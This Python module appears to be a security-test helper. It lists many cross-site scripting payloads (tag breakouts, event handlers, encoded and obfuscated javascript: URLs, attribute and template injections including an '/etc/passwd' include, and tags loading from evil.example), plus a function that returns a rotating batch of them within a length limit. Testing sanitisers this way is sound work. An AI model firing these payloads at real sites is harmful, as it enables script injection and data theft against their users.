"""Words that would run as a script wherever text is taken for a page, an attribute, a script or an address."""

CONTEXTS = ("", '">', "'>", "--></title></textarea></style></script>", "{{1}}</p></a>")
ELEMENTS = (
    "<script>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><button>x",
    "<a href=javascript:alert(1)>x</a>",
)
SPECIAL = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    "` onmouseover=alert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x0c>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "';alert(1)//",
    '";alert(1)//',
    "</script><script>alert(1)</script>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "*/alert(1)/*",
    "<a style='width:expression(alert(1))'>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<img src=//evil.example/x>",
)
PAYLOADS = (*(context + element for context in CONTEXTS for element in ELEMENTS), *SPECIAL)


def payloads(most: int | None, turn: int) -> str:
    """As many as fit into so many characters, beginning with another one each turn; all of them where there is room."""
    rotated = [*PAYLOADS[turn % len(PAYLOADS) :], *PAYLOADS[: turn % len(PAYLOADS)]]
    text = ""
    for payload in rotated:
        longer = f"{text} {payload}" if text else payload
        if most and len(longer) > most:
            break
        text = longer
    return text or rotated[0][:most]
